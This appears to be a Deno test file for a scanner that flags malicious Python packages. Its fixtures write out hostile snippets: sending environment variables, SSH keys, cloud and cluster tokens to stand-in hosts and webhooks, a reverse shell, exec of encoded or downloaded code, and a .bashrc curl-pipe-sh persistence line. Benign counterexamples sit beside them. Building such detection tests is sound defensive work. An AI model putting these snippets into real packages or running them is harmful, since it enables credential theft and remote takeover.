/**
 * Malice in packages: an author publishes a package with it, and a server that only depends on it.
 *
 * @module
 */
import { assertEquals } from "@std/assert";
import { gzipSync } from "node:zlib";
import { readPackage } from "../../workers/analysis/packages/reading.ts";
import { packWheel } from "../../workers/analysis/packages/pack.ts";
import { wheelOf } from "../helpers/package_index.ts";

type Files = Record<string, string>;

/** What reading a package with these files shows: "rule file:line". */
async function read(files: Files): Promise<string[]> {
  const wheel = wheelOf({ name: "helper-kit", version: "1.0", files });
  const packed = packWheel(wheel, { name: "helper-kit", version: "1.0", symbols: "" });
  if (packed.kind === "refused") throw new Error(packed.reason);
  const { findings } = await readPackage(Uint8Array.fromBase64(packed.content), "helper-kit");
  return findings.map(({ rule, file, line }) => `${rule} ${file}:${line}`);
}

const encoded = (code: string) => new TextEncoder().encode(code).toBase64();
const PAYLOAD = encoded("import os, urllib.request\nurllib.request.urlopen('https://c2.example')");
const ZIPPED = new Uint8Array(gzipSync("print(1)")).toBase64();

const FLIPPED = new TextEncoder().encode("import a.b.c;run()").map((each) => 255 - each).toBase64();

/** A function that looks up in decoded data which class is meant, and what it does with the class. */
const RESTORED = (use: string, before = ""): string =>
  "import base64, json\n\ndef restore(raw):\n" + before +
  "    text = base64.b64decode(raw).decode()\n    data = json.loads(text)\n" +
  "    module = __import__(data['module'], fromlist=['x'])\n" +
  "    kind = getattr(module, data['class'])\n" + use;

/** One client fills in its own key; what another does with an object of the same class. */
const TWO_CLIENTS = (other: string): Files => ({
  "kit/config.py": "class Config:\n    def __init__(self, key=None):\n        self.key = key\n",
  "kit/first.py": "import os\nfrom .config import Config\n\nclass First:\n" +
    "    def __init__(self, config=None):\n        if config is None:\n" +
    "            config = Config()\n            config.key = os.getenv('OPENAI_API_KEY')\n" +
    "        self.config = config\n",
  "kit/second.py": "import os, httpx\nfrom .config import Config\nfrom .first import First\n\n" +
    "class Second:\n    def __init__(self, config=None):\n" +
    "        given = config or Config()\n" +
    "        self.own = given.key or os.getenv('SECOND_API_KEY')\n\n" +
    "    def get(self):\n" +
    "        return httpx.get('https://api.second.example', headers={'Authorization': self.own})\n" +
    other,
  "kit/__init__.py": "from .second import Second\n\n__all__ = ['Second']\n",
});
const SENT_BY_SECOND = "py/key-sent kit/second.py:11";

/** Each package, and a rule that it breaks with the place. */
const HOSTILE: Record<string, [files: Files, found: string]> = {
  "a cluster's token goes to another host": [{
    "kit/__init__.py": "import requests\n\ndef pods():\n" +
      "    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n" +
      "    requests.post('https://collect.evil.site/x', data=token)\n",
  }, "py/key-sent kit/__init__.py:5"],
  "a token of a cloud's machine goes to another host": [{
    "kit/__init__.py": "from urllib.request import Request, urlopen\nimport requests\n\n" +
      "def token():\n    request = Request('http://169.254.169.254/metadata/token')\n" +
      "    said = urlopen(request, timeout=5).read()\n" +
      "    requests.post('https://collect.evil.site/x', data=said)\n",
  }, "py/credentials-sent kit/__init__.py:7"],
  "the environment is among the words of a program's options": [{
    "kit/__init__.py": "import os, subprocess\n\ndef start(**options):\n" +
      "    options['env'] = dict(os.environ)\n" +
      "    options['args'] = ['curl', '-d', str(dict(os.environ)), 'https://collect.evil.site']\n" +
      "    return subprocess.Popen(**options)\n",
  }, "py/environment-sent kit/__init__.py:6"],
  "the environment goes to a parameter that is called like it": [{
    "kit/__init__.py": "import os, requests\n\ndef send(environ):\n" +
      "    requests.post('https://collect.example/x', json=dict(environ))\n\nsend(os.environ)\n",
  }, "py/environment-sent kit/__init__.py:4"],
  "a parameter is the environment by default": [{
    "kit/__init__.py": "import os, requests\n\ndef send(environ=os.environ):\n" +
      "    requests.post('https://collect.example/x', json=dict(environ))\n",
  }, "py/environment-sent kit/__init__.py:4"],
  "the module that is imported is what a service says": [{
    "kit/__init__.py": "import importlib, requests\n\ndef load(url):\n" +
      "    name = requests.get(url).text\n    return importlib.import_module(f'{name}.start')\n",
  }, "py/remote-code kit/__init__.py:5"],
  "the environment is sent at import": [{
    "kit/__init__.py": "import os, json, urllib.request\n" +
      "data = json.dumps(dict(os.environ)).encode()\n" +
      "urllib.request.urlopen('https://collect.example/x', data)\n",
  }, "py/environment-sent kit/__init__.py:3"],
  "the environment is sent by requests from a function": [{
    "kit/__init__.py": "from .stats import report\nreport()\n",
    "kit/stats.py": "import os\nimport requests\n\ndef report():\n" +
      "    requests.post('https://collect.example', json={k: v for k, v in os.environ.items()})\n",
  }, "py/environment-sent kit/stats.py:5"],
  "one file gathers, another sends, a third puts them together": [{
    "kit/gather.py": "import os\n\ndef gather():\n    return dict(os.environ)\n",
    "kit/send.py":
      "import httpx\n\ndef send(data):\n    httpx.post('https://collect.example', json=data)\n",
    "kit/__init__.py": "from .gather import gather\nfrom .send import send\nsend(gather())\n",
  }, "py/environment-sent kit/send.py:4"],
  "keys of the user go to a webhook": [{
    "kit/__init__.py": "import pathlib, requests\n" +
      "key = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n" +
      "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': key})\n",
  }, "py/credentials-sent kit/__init__.py:3"],
  "credentials of a cloud go to a bot": [{
    "kit/__init__.py": "import os, urllib.request, urllib.parse\n\n" +
      "def beat():\n" +
      "    text = open(os.path.expanduser('~/.aws/credentials')).read()\n" +
      "    body = urllib.parse.urlencode({'chat_id': 1, 'text': text}).encode()\n" +
      "    urllib.request.urlopen('https://api.telegram.org/bot1:a/sendMessage', body)\n",
  }, "py/credentials-sent kit/__init__.py:6"],
  "one service's key goes to another host": [{
    "kit/__init__.py": "import os, requests\n" +
      "requests.get('https://metrics.example/' + os.environ['OPENAI_API_KEY'])\n",
  }, "py/key-sent kit/__init__.py:2"],
  "one client is made with what another filled": [
    TWO_CLIENTS("\nSecond(First().config).get()\n"),
    SENT_BY_SECOND,
  ],
  "one client is made by another name with what another filled": [{
    ...TWO_CLIENTS(""),
    "kit/run.py": "from .first import First\nfrom .second import Second as Client\n" +
      "Client(First().config).get()\n",
  }, SENT_BY_SECOND],
  "a class of its own is a client with what another filled": [
    TWO_CLIENTS("\nclass Third(Second):\n    pass\n\nThird(First().config).get()\n"),
    SENT_BY_SECOND,
  ],
  "a client reads what objects of a class have by themselves": [{
    ...TWO_CLIENTS(""),
    "kit/first.py": "import os\n\nclass First:\n    def __init__(self):\n" +
      "        self.key = os.getenv('OPENAI_API_KEY')\n",
  }, SENT_BY_SECOND],
  "a client reads what a class has by itself": [{
    ...TWO_CLIENTS(""),
    "kit/first.py": "import os\nfrom .config import Config\nclass First: pass\n" +
      "Config.key = os.getenv('OPENAI_API_KEY')\n",
  }, SENT_BY_SECOND],
  "a client reads what a function fills for its callers": [{
    ...TWO_CLIENTS(""),
    "kit/first.py": "import os\nfrom .config import Config\nclass First: pass\n" +
      "def configured():\n    config = Config()\n" +
      "    config.key = os.getenv('OPENAI_API_KEY')\n    return config\n",
  }, SENT_BY_SECOND],
  ...Object.fromEntries(
    ["cls", "type(self)", "self.__init__", "globals()['Second']", "getattr(kit, 'Second')"].map(
      (way) => [`a client is made by ${way} with what another filled`, [
        TWO_CLIENTS(`\n    def again(self, cls=None):\n        ${way}(First().config).get()\n`),
        SENT_BY_SECOND,
      ]],
    ),
  ),
  "a client inherits what its base is filled with": [{
    ...TWO_CLIENTS(""),
    "kit/config.py": "import os\n\nclass Config:\n    def __init__(self, own):\n" +
      "        own.key = os.getenv('OPENAI_API_KEY')\n",
    "kit/first.py": "from .config import Config\n\nclass First:\n" +
      "    def __init__(self):\n        Config(self)\n",
    "kit/second.py": "import httpx\nfrom .first import First\n\nclass Second(First):\n" +
      "    def get(self):\n" +
      "        return httpx.get('https://api.second.example', headers={'Authorization': self.key})\n",
  }, "py/key-sent kit/second.py:6"],
  "clients are made that nothing names": [{
    ...TWO_CLIENTS(""),
    "kit/run.py": "from .first import First\nfor each in object.__subclasses__():\n" +
      "    each(First().config).get()\n",
  }, SENT_BY_SECOND],
  "decoded text is run": [{
    "kit/__init__.py": `import base64\nexec(base64.b64decode("${PAYLOAD}"))\n`,
  }, "py/encoded-code kit/__init__.py:2"],
  "decoded text between braces is run": [{
    "kit/__init__.py": "import base64\ncode = base64.b64decode('{cHJpbnQoMSk}').decode()\n" +
      "short = base64.b64decode('{cHJpbnQo}').decode()\nexec(short)\n",
  }, "py/encoded-code kit/__init__.py:4"],
  "decoded bytes that are no text are run once they are changed": [{
    "kit/__init__.py": `import base64\nblob = base64.b64decode("${FLIPPED}")` +
      `\nexec(bytes(255 - each for each in blob))\n`,
  }, "py/encoded-code kit/__init__.py:3"],
  "long decoded text between braces is run": [{
    "kit/__init__.py": `import base64\nexec(base64.b64decode("{${PAYLOAD}}"))\n`,
  }, "py/encoded-code kit/__init__.py:2"],
  "a text is decoded that a name holds": [{
    "kit/__init__.py": "import base64\ndef run(code):\n    exec(base64.b64decode(code))\n",
  }, "py/encoded-code kit/__init__.py:3"],
  "decoded text is run through names": [{
    "kit/__init__.py":
      `import base64, zlib\nblob = "${ZIPPED}"\ncode = zlib.decompress(base64.b64decode(blob), 31)\n` +
      "run = exec\nrun(compile(code, 'x', 'exec'))\n",
  }, "py/encoded-code kit/__init__.py:5"],
  "a literal text that is run does it": [{
    "kit/__init__.py": "exec('''import os, requests\n" +
      "requests.post('https://collect.example', json=dict(os.environ))\n''')\n",
  }, "py/environment-sent kit/__init__.py:2"],
  "decoded data names a class that is made an object of": [{
    "kit/__init__.py": RESTORED("    return kind(data['args'])\n"),
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names a class whose method is chosen for what it does": [{
    "kit/__init__.py": RESTORED("    return kind.run(data['args'])\n"),
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names what is called beside a method that restores objects": [{
    "kit/__init__.py": RESTORED("    if 'args' in data: kind(data['args'])\n") +
      "    return kind.from_json(text)\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names what is a function by another name": [{
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n") +
      "\nclass Kit:\n    from_json = exec\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names what is a function by another name in another module": [{
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
    "kit/kinds.py": "class Kit:\n    from_json = exec\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names a class of another module whose method runs it": [{
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
    "kit/kinds.py":
      "class Kit:\n    @classmethod\n    def from_json(cls, text):\n        exec(text)\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names a class whose method has another function run it": [{
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
    "kit/kinds.py": "from kit import steps\n\nclass Kit:\n    @classmethod\n" +
      "    def from_json(cls, text):\n        return cls.made(text)\n\n    @classmethod\n" +
      "    def made(cls, text):\n        return steps.step(text)\n",
    "kit/steps.py": "import os\n\ndef step(text):\n    os.system(text)\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names a class that is given its method elsewhere": [{
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
    "kit/kinds.py": "class Kit:\n    pass\n\nsetattr(Kit, 'from_json', exec)\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names a class whose objects hold code": [{
    "kit/__init__.py": RESTORED("    return kind.deserialize(text)\n"),
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names what another function calls": [{
    "kit/__init__.py": RESTORED("    return call(kind)\n") + "\ndef call(f):\n    f('id')\n",
  }, "py/encoded-code kit/__init__.py:7"],
  "decoded data names what the module keeps": [{
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n", "    global kind\n") +
      "\ndef call():\n    kind('id')\n",
  }, "py/encoded-code kit/__init__.py:8"],
  "what a server answers is run": [{
    "kit/__init__.py":
      "import urllib.request\nexec(urllib.request.urlopen('https://c2.example/a').read())\n",
  }, "py/remote-code kit/__init__.py:2"],
  "what a server answers is unpickled": [{
    "kit/__init__.py": "import pickle, requests\n\ndef load():\n" +
      "    return pickle.loads(requests.get('https://c2.example/a').content)\n",
  }, "py/remote-code kit/__init__.py:4"],
  "a shell for a stranger": [{
    "kit/__init__.py": "import socket, os, pty\ns = socket.socket()\n" +
      "s.connect(('203.0.113.9', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n" +
      "pty.spawn('/bin/sh')\n",
  }, "py/reverse-shell"],
  "a program that starts with every shell": [{
    "kit/__init__.py": "import os\n" +
      "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n" +
      "    f.write('curl -s https://c2.example/a | sh\\n')\n",
  }, "py/hostile-start"],
  "the environment goes through a socket that is imported by its name": [{
    "kit/__init__.py": "import os\nfrom importlib import import_module\n" +
      "line = import_module('socket').create_connection(('collect.example', 80))\n" +
      "def tell(line):\n    line.send(str(dict(os.environ)).encode())\n",
  }, "py/environment-sent kit/__init__.py:5"],
  "a top-level module beside the package": [{
    "kit/__init__.py": "",
    "kit_patch.py":
      "import os, requests\nrequests.post('https://c.example', data=str(os.environ))\n",
  }, "py/environment-sent kit_patch.py:2"],
};

for (const [what, [files, found]] of Object.entries(HOSTILE)) {
  Deno.test(`a package is malicious if ${what}`, async () => {
    const said = await read(files);
    assertEquals(said.some((each) => each.startsWith(found)), true, said.join("\n"));
  });
}

/** What libraries do for good reasons. */
const HONEST: Record<string, Files> = {
  "a table of its own that is called like the environment": {
    "kit/__init__.py": "import sentry_sdk\n\ndef said(request):\n" +
      "    environ = {'METHOD': request.method}\n    environ['PATH'] = request.path\n" +
      "    sentry_sdk.set_context('request', environ)\n",
  },
  "the variables of a program, among options that callers give": {
    "kit/__init__.py": "import os, subprocess\n\ndef start(args, **options):\n" +
      "    options.setdefault('env', dict(os.environ))\n" +
      "    return subprocess.Popen([*args], **options)\n",
  },
  "a token that it asks a cloud's machine for": {
    "kit/__init__.py": "import json\nfrom urllib.request import Request, urlopen\n\n" +
      "def token():\n    request = Request('http://169.254.169.254/metadata/token')\n" +
      "    with urlopen(request, timeout=5) as answer:\n" +
      "        return json.loads(answer.read())['token']\n",
  },
  "a cluster's token for its own cluster": {
    "kit/__init__.py": "import os, requests\n\ndef pods():\n" +
      "    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n" +
      "    return requests.get('https://' + os.environ['KUBERNETES_SERVICE_HOST'] + '/api',\n" +
      "        headers={'Authorization': f'Bearer {token}'}, timeout=5).json()\n",
  },
  "what an SDK reports by itself": {
    "sentry_sdk/wsgi.py": "import os\nimport sentry_sdk\n\ndef report(error):\n" +
      "    sentry_sdk.set_context('environment', dict(os.environ))\n",
  },
  "what a web server gives an application": {
    "kit/__init__.py":
      "import sentry_sdk\n\nclass App:\n    def __call__(self, environ, start):\n" +
      "        sentry_sdk.set_context('wsgi', environ)\n        return self.app(environ, start)\n",
  },
  "one of its own modules, as a service says": {
    "kit/__init__.py": "import importlib, requests\n\ndef load(url):\n" +
      "    base = 'kit.protocols.v'\n    version = requests.get(url).json()['version']\n" +
      "    return importlib.import_module(f'{base}{version}')\n",
  },
  "a client that sends its own key to its own service": {
    "kit/__init__.py": "import os, httpx\n\nclass Client:\n    def __init__(self, key=None):\n" +
      "        self.key = key or os.environ.get('KIT_API_KEY')\n\n    def get(self, path):\n" +
      "        headers = {'Authorization': 'Bearer ' + self.key}\n" +
      "        return httpx.get('https://api.kit.example/' + path, headers=headers).json()\n",
  },
  "stored objects that are restored by their class": {
    "kit/__init__.py": RESTORED("    return kind.from_json(text)\n"),
    "kit/kinds.py": "import json\nfrom kit import texts\n\nclass Kit:\n    @classmethod\n" +
      "    def from_json(cls, text):\n        data = json.loads(texts.plain(text))\n" +
      "        return cls(data['name'])\n",
    "kit/texts.py":
      "def plain(text):\n    return text if isinstance(text, str) else text.decode()\n",
    "kit/store.py": "import base64, json\nfrom importlib import import_module\n\n" +
      "def load(raw):\n    data = json.loads(base64.b64decode(raw))\n" +
      "    return getattr(import_module(data['m']), data['c']).from_dict(data['fields'])\n",
  },
  "clients of two services whose settings are of one class": TWO_CLIENTS(""),
  "a program for elsewhere with a place for code": {
    "kit/wrapper.py": "import base64\n\ndef run(code):\n    exec(compile(code, 'x', 'exec'))\n\n" +
      "if __name__ == '__main__':\n    run(base64.b64decode('{encoded_code}').decode())\n" +
      "    run(base64.b64decode('%user_code%').decode())\n",
  },
  "a template engine that compiles what it makes": {
    "kit/__init__.py":
      "def render(source, values):\n    code = compile(translate(source), 'x', 'exec')\n" +
      "    exec(code, values)\n\ndef translate(source):\n    return source.replace('{{', 'print(')\n",
  },
  "decoding that runs nothing": {
    "kit/__init__.py": "import base64, json\n\ndef parse(text):\n" +
      "    return json.loads(base64.b64decode(text))\n",
  },
  "programs that get the environment": {
    "kit/__init__.py": "import os, subprocess\n\ndef run(args):\n" +
      "    return subprocess.run(args, env={**os.environ, 'LC_ALL': 'C'}, check=True)\n",
  },
  "a signal that tells its listeners of a request": {
    "kit/__init__.py": "from importlib import import_module\n" +
      "from .signals import request_started\n\nclass Handler:\n" +
      "    '''Composes requests, and needs no socket.'''\n\n" +
      "    def __call__(self, environ):\n" +
      "        request_started.send(sender=self.__class__, environ=environ)\n",
  },
  "a test runner that replaces standard input": {
    "kit/__init__.py": "import io, sys\n\ndef isolated(data):\n" +
      "    before = sys.stdin\n    sys.stdin = io.TextIOWrapper(io.BytesIO(data))\n" +
      "    return before\n",
  },
  "a reader of a user's own configuration": {
    "kit/__init__.py": "import configparser, pathlib\n\ndef profile(name):\n" +
      "    config = configparser.ConfigParser()\n" +
      "    config.read(pathlib.Path.home() / '.aws' / 'credentials')\n    return config[name]\n",
  },
};

for (const [what, files] of Object.entries(HONEST)) {
  Deno.test(`a package is not malicious for ${what}`, async () => {
    assertEquals(await read(files), []);
  });
}

Deno.test("a package that is made large is read where it acts, and says what was left", async () => {
  const idle = "class Model:\n    name = 1\n\n".repeat(20_000);
  const files: Files = Object.fromEntries(
    Array.from({ length: 16 }, (_, at) => [`kit/model${at}.py`, idle]),
  );
  files["kit/__init__.py"] = HOSTILE["the environment is sent at import"]![0]["kit/__init__.py"]!;
  assertEquals(await read(files), ["py/environment-sent kit/__init__.py:3"]);
});

Deno.test("what is no Python, or no package, harms nothing", async () => {
  const odd = { "kit/__init__.py": "def broken(:\n", "kit/\u202ex.py": "x = 1\n" };
  assertEquals(await read(odd), []);
});
